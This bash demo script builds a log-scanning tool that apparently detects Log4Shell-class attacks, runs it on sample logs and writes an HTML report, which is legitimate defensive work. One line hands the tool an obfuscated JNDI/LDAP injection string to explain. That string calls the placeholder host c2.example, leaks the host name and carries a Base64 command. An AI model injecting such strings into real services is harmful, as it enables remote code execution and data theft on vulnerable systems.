#!/usr/bin/env bash
# The main job on bundled sample data, on a fresh Debian 12 machine (as root):
# installs what defuse needs, builds it, and hunts the bundled sample logs
# (samples/) for Log4Shell-class attempts, then explains one payload.
set -euo pipefail
cd "$(dirname "$0")/.."
bash scripts/deps.sh
cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=RelWithDebInfo >/dev/null
ninja -C build defuse_cli >/dev/null  # also builds defuse-report, defuse-scan, ...
echo "== defuse logs --summary samples/"
set +e
./build/defuse logs --summary samples/
rc=$?
set -e
echo "(exit status $rc: 0 nothing found, 1 findings, 2 errors)"
echo
echo "== defuse explain (one payload from the samples)"
./build/defuse explain '${${env:NaN:-j}ndi${env:NaN:-:}${lower:L}dap://${hostName}.c2.example:1389/Basic/Command/Base64/aWQ=}'
echo
echo "== defuse report (one HTML page over the same samples)"
# the raw logs, scanned by the report itself (it also reads `defuse logs --json`
# output, nginx defuse_log files and honeypot events: kinds told by content)
./build/defuse report -o build/demo-report.html samples/
echo "report: $(pwd)/build/demo-report.html (open it in a browser; it loads nothing from anywhere)"
[ "$rc" -le 1 ]
